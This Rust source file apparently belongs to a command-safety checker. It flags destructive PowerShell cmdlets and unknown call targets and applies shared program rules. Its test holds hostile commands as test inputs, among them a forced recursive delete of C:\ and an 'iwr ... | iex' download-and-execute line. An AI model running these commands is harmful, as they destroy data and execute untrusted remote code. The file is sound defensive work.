//! PowerShell, which is not parsed: its destructive cmdlets are known by name, and programs that both
//! shells share are judged by the same rules.

use std::ops::Range;

use crate::command::cmdlets::{DESTRUCTIVE, statements};
use crate::command::judge::{Certainty, Objection, judge as judge_command};
use crate::command::parse::is_short_and_plain;
use crate::command::rules::{Asked, LetThrough};
use crate::command::scan::Found;

/// What speaks against a PowerShell command.
#[derive(Debug)]
pub(crate) enum Against {
    /// A rule against a program.
    Rule(Objection),
    /// A cmdlet, and where it stands.
    Cmdlet(Range<usize>),
}

/// The first thing that speaks against a command, unless an entry lets it through.
pub(crate) fn judge(asked: &Asked<'_>, let_through: &mut Vec<LetThrough>) -> Option<Against> {
    let command = asked.command;
    for (start, statement) in statements(command) {
        let trimmed = statement.trim_start();
        let start = start + statement.len() - trimmed.len();
        // The call operators stand before the name of a program.
        let named = trimmed.trim_start_matches(['&', '.', ' ']);
        let start = start + trimmed.len() - named.len();
        let word = named.split_whitespace().next().unwrap_or("");
        let name = word.trim_matches(['"', '\'']).to_lowercase();
        let unknown = trimmed.starts_with('&') && name.starts_with(['$', '(']);
        if unknown || DESTRUCTIVE.contains(&name.as_str()) {
            return Some(Against::Cmdlet(start..start + word.len()));
        }
        let program = named.trim_end();
        if !is_short_and_plain(program) {
            continue;
        }
        let statement = Asked {
            command: program,
            ..*asked
        };
        let judgement = judge_command(&statement, Found::default(), Certainty::Certain);
        let_through.extend(judgement.let_through);
        if let Some(mut objection) = judgement.objection {
            objection.span = objection.span.start + start..objection.span.end + start;
            return Some(Against::Rule(objection));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use jiff::Timestamp;

    use super::*;
    use crate::command::rules::RuleSet;
    use crate::place::Place;

    #[test]
    fn destructive_cmdlets_are_found_where_they_are_called() {
        let place = Place::new("/srv/app", None);
        let check = |command: &str, wanted: Option<&str>| {
            let asked = Asked {
                command,
                place: &place,
                rules: &RuleSet::default(),
                now: Timestamp::UNIX_EPOCH,
            };
            let found = judge(&asked, &mut Vec::new()).map(|found| match found {
                Against::Rule(objection) => command[objection.span].to_owned(),
                Against::Cmdlet(span) => command[span].to_owned(),
            });
            assert_eq!(found.as_deref(), wanted, "{command}");
        };
        check("Remove-Item -Recurse -Force C:\\", Some("Remove-Item"));
        check("Get-ChildItem | Remove-Item", Some("Remove-Item"));
        check("$x = ri -r x", Some("ri"));
        check("iwr https://x.test | iex", Some("iex"));
        check("& $program", Some("$program"));
        check("git push --force", Some("git push --force"));
        check("Get-ChildItem; Write-Output 'Remove-Item; rm'", None);
        check("git status", None);
    }
}
